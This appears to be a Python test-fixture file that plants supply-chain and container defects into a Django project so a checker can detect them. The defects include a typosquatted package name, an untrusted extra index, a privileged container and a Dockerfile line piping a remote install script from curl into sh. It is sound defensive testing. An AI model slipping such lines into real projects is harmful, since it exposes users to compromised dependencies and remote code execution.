"""What the users' CI and images would run."""

from tests.proof.checks.drafted import edited, with_text
from tests.proof.checks.planted.defect import Defect

SHIPPED: dict[str, Defect] = {
    "typo for a package": (
        "shipping.requirements",
        "requirements.txt",
        "djangorestframwork",
        edited("requirements.txt", r"djangorestframework==", "djangorestframwork=="),
    ),
    "another index": (
        "shipping.requirements",
        "requirements.txt",
        "--extra-index-url",
        with_text("requirements.txt", "--extra-index-url https://packages.example.com/simple\n"),
    ),
    "package from an address": (
        "shipping.requirements",
        "requirements.txt",
        "git+",
        with_text("requirements.txt", "redis @ git+https://example.com/redis.git\n"),
    ),
    "package not pinned": (
        "shipping.requirements",
        "requirements.txt",
        "gunicorn",
        edited("requirements.txt", r"gunicorn==\S+", "gunicorn>=20"),
    ),
    "package forgotten": (
        "shipping.required",
        "settings.py",
        None,
        edited("requirements.txt", r"whitenoise==\S+\n", ""),
    ),
    "image of a stranger": (
        "shipping.dockerfile",
        "Dockerfile",
        "FROM",
        edited("Dockerfile", r"FROM python:\S+", "FROM quickdjango/python:latest"),
    ),
    "image that fetches": (
        "shipping.dockerfile",
        "Dockerfile",
        "curl",
        edited("Dockerfile", r"^WORKDIR", "RUN curl -sSf https://example.com/install.sh | sh\nWORKDIR"),
    ),
    "image that runs as root": (
        "shipping.dockerfile",
        "Dockerfile",
        None,
        edited("Dockerfile", r"^USER [^\n]*\n", ""),
    ),
    "privileged container": (
        "shipping.compose",
        "compose.yaml",
        "privileged",
        edited("compose.yaml", r"^  web:\n", "  web:\n    privileged: true\n"),
    ),
    "process of its own": (
        "shipping.procfile",
        "Procfile",
        "worker",
        with_text("Procfile", "worker: bash -c 'sleep 1'\n"),
    ),
}
